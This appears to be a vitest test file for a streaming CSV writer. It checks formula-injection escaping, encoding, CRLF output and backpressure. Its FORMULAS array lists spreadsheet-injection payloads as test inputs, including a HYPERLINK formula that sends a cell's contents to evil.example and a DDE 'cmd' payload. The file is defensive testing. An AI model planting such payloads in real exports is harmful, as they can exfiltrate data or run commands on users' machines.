import { describe, expect, it } from "vitest";
import { csvStream, type CsvColumn } from "@/lib/csv/writer";
import { readAll, readCsv } from "../support/csv-read";

type R = { text: string | null; n?: number };
const COLUMNS: CsvColumn<R>[] = [
  { header: "text", cell: (r) => r.text },
  { header: "n", cell: (r) => r.n },
];
async function* from<T>(rows: T[]) {
  yield* rows;
}
const write = async (rows: R[]) => readAll(csvStream(COLUMNS, from(rows)));

// What a person could type into a free-text answer that a spreadsheet would run.
const FORMULAS = ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "＝1+1", "=cmd|' /C calc'!A0"];

describe("the CSV writer", () => {
  it("puts a single quote before every cell that begins like a formula, and leaves other text alone", async () => {
    const plain = ["hello", "a=b", "1+1", "e-mail: x@y.example", " =1 (a leading space)", ""];
    const { rows } = readCsv(await write([...FORMULAS, ...plain].map((text) => ({ text }))));
    expect(rows.slice(1).map((r) => r[0])).toEqual([...FORMULAS.map((f) => `'${f}`), ...plain]);
  });

  it("writes numbers we computed as plain numbers (a negative change stays a number), but never text that looks like one", async () => {
    const bytes = await write([
      { text: "-3", n: -3 },
      { text: "+4", n: 4 },
      { text: null, n: 0 },
    ]);
    expect(new TextDecoder().decode(bytes.subarray(3))).toBe("text,n\r\n'-3,-3\r\n'+4,4\r\n,0\r\n");
  });

  it("writes UTF-8 with a byte order mark and CRLF, and accented names and line breaks read back as written", async () => {
    const names = ["Zoë Bélanger-Nguyễn", "Ñandú Peña", 'He said "no",\r\nthen left', "a bare\nline feed", "a bare\rreturn", "Łukasz Øster"];
    const bytes = await write(names.map((text) => ({ text })));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const { bom, rows } = readCsv(bytes);
    expect(bom).toBe(true);
    expect(rows.map((r) => r[0])).toEqual(["text", ...names]);
    // é is the two UTF-8 bytes C3 A9, not Latin-1's E9.
    expect(Buffer.from(bytes).includes(Buffer.from([0xc3, 0xa9]))).toBe(true);
  });

  it("writes the header row even when nothing matches", async () => {
    expect(readCsv(await write([])).rows).toEqual([["text", "n"]]);
  });

  it("reads rows only as fast as the reader takes bytes, and a cancelled download ends the source", async () => {
    let pulled = 0;
    let ended = false;
    async function* endless() {
      try {
        for (;;) {
          pulled++;
          yield { text: `row ${pulled} ${"x".repeat(100)}`, n: pulled };
        }
      } finally {
        ended = true;
      }
    }
    const reader = csvStream(COLUMNS, endless()).getReader();
    let bytes = 0;
    for (let i = 0; i < 5; i++) bytes += (await reader.read()).value!.byteLength;
    await new Promise((resolve) => setTimeout(resolve, 50));
    // A few buffers' worth ahead of the reader (csv-stringify's 16 KiB, Readable.from's 16 rows), never the whole source.
    expect(bytes).toBeGreaterThan(0);
    expect(pulled).toBeLessThan(2000);
    await reader.cancel();
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(ended).toBe(true);
  });
});
